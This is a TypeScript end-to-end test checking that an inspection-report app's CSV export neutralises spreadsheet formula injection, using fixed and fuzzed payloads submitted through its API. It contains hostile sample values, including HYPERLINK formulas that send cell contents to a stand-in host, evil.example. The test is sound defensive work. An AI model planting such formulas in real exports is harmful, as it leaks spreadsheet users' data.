import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { REPORT_CSV_COLUMNS, reportsCsvFileColumns } from '@hiu/domain';
import { useTestApp } from '../helpers/test-app.js';
import { passingCheck } from '@hiu/domain/testing';
import { JPEG, PNG, quickUser, upload } from './helpers/fixture.js';
import { FORMULAS, FUZZ_SEED } from './helpers/hostile.js';

const t = useTestApp();

/** A cell a spreadsheet would run: it starts with = + - @ tab or CR and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?(\d+(\.\d*)?|\.\d+)$/.test(cell);

describe('CSV export against formula injection, end to end', () => {
  it('neutralises every formula-looking cell that came in through the API, and leaves plain negative numbers alone', async () => {
    const app = await t.app();
    const database = await t.database();
    const admin = await quickUser(app, database, 'admin');
    // The engineer's name goes into every row they submit.
    const eng = await quickUser(app, database, 'engineer', '@SUM(A1:A9)');
    const siteName = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    const site = (await admin.post('/api/sites', { name: siteName, location: '+44 Leeds' })).json() as {
      id: string;
      name: string;
    };
    const property = (
      await admin.post('/api/properties', { siteId: site.id, address: '-cmd Flat 1', propertyType: '1b2p' })
    ).json() as { id: string };
    const photo = await upload(eng, 'photo', JPEG);
    const signature = await upload(eng, 'signature', PNG);

    // Fixed payloads, then generated ones: formula starts followed by anything, quotes, commas and line breaks.
    const generated = fc.sample(
      fc
        .tuple(
          fc.constantFrom('=', '+', '-', '@', '\t', '\r', '=-', '@@'),
          fc.string({ unit: fc.constantFrom(...'abc1(),";=+-@\n\r\t '), maxLength: 30 }),
        )
        .map(([a, b]) => a + b)
        // Required fields get the payload too: it must not be blank once trimmed.
        .filter((p) => p.trim() !== ''),
      { numRuns: 16, seed: FUZZ_SEED },
    );
    const payloads = [...FORMULAS, '-1+1', '+1', '=1', '@', '-', '=A1,"x"\r\n=B2', ...generated];
    for (const [i, payload] of payloads.entries()) {
      const base = passingCheck({ site, propertyId: property.id, photoId: photo, signatureId: signature });
      // Single-line fields get no line breaks here (finding R1: the PDF cannot draw them); notes keep them.
      const line = payload.replace(/[\r\n]+/g, ' ');
      const res = await eng.post('/api/reports', {
        id: randomUUID(),
        wizardData: {
          ...base,
          address: line,
          dwellingType: line,
          hiuModel: line,
          hiuSerial: line,
          meterStart: '-1.5',
          radiators: {
            roomChecks: { [payload.trim() || `=room ${i}`]: { valveSetting: '2.5', expectedValveSetting: '2.5' } },
          },
          photosSignature: { ...base.photosSignature!, remoteCutOffValveSerial: line.slice(0, 60), meterEnd: '-0.25' },
        },
        notes: payload,
        completedAt: '2026-03-02T10:25:00.000Z',
      });
      expect(res.statusCode, `${JSON.stringify(payload)}: ${res.body}`).toBe(201);
    }

    const csv = await admin.get(`/api/reports/export.csv?siteName=${encodeURIComponent(siteName)}`);
    expect(csv.statusCode).toBe(200);
    const rows = Papa.parse<string[]>(csv.body.trimEnd(), { newline: '\r\n' }).data;
    expect(rows[0]).toEqual(reportsCsvFileColumns(false));
    const data = rows.slice(1);
    expect(data).toHaveLength(payloads.length);
    const column = (name: (typeof REPORT_CSV_COLUMNS)[number]) => REPORT_CSV_COLUMNS.indexOf(name);
    let cells = 0;
    for (const row of data) {
      for (const [i, cell] of row.entries()) {
        cells++;
        expect(runnable(cell), `${rows[0]![i]} = ${JSON.stringify(cell)}`).toBe(false);
      }
      expect(row[column('Site Name')]).toBe(`'${siteName}`);
      expect(row[column('Engineer Name')]).toBe("'@SUM(A1:A9)");
      expect(row[column('Meter Start Reading')]).toBe('-1.5');
      expect(row[column('Meter End Reading')]).toBe('-0.25');
    }
    // Each payload comes back whole (trimmed, as every text field is), behind one quote mark when it could run.
    const expected = (p: string) => (runnable(p.trim()) ? `'${p.trim()}` : p.trim());
    expect(data.map((r) => r[column('Notes')]).sort()).toEqual(payloads.map(expected).sort());
    expect(data.map((r) => r[column('HIU Serial')]).sort()).toEqual(
      payloads.map((p) => expected(p.replace(/[\r\n]+/g, ' '))).sort(),
    );
    expect(data.map((r) => r[column('HIU Serial')])).toContain(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
    );
    console.log(`CSV injection: ${payloads.length} hostile reports exported, ${cells} cells checked, none runnable`);
  });
});
